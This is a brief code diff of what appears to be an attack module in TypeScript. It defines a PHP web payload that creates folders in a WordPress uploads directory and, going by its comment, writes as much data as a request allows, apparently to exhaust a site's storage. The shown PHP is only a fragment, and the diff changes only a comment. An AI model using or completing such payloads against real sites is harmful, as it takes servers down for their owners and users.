@@ -1,7 +1,7 @@
 import type { Attack } from './attack.ts'
 import { atRate, hostileRequest, siteOf } from './hostile.ts'
 
-/** As much as a request can write, in large files and in many small ones. */
+/** Writes as much as a request can, in large files and in many small ones. */
 const writer = `<?php
 $folder = __DIR__ . '/wp-content/uploads/heap-' . bin2hex(random_bytes(4));
 @mkdir($folder, 0755, true);
